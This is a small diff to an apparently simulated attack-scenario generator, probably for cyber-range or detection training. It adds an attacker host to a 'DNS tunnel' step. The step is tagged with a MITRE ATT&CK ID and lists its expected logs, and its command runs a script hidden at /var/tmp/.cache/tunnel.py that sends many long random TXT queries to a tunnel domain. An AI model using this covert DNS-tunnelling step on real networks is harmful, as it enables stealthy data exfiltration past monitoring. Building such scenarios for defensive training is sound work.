@@ -143,7 +143,7 @@ class Attack:
             f"chmod 700 /var/tmp/.cache/tunnel.py; {PYTHON} /var/tmp/.cache/tunnel.py {DNS} {TUNNEL_DOMAIN} 360 0.11"
         )
         return Step(
-            "DNS tunnel", "T1071.004", [PORTAL, DNS, HOSTS["internet"].ip],
+            "DNS tunnel", "T1071.004", [ATTACKER, PORTAL, DNS, HOSTS["internet"].ip],
             ["extranet.pcap.gz", "dns/syslog.log", "portal/audit.log", "portal/syslog.log"],
             f"A script copied by scp asks 360 long random TXT names below {TUNNEL_DOMAIN} through the district's resolver.",
             f"用 scp 传入脚本，经区内 DNS 解析器对 {TUNNEL_DOMAIN} 发起 360 次超长随机子域 TXT 查询（DNS 隧道）。",
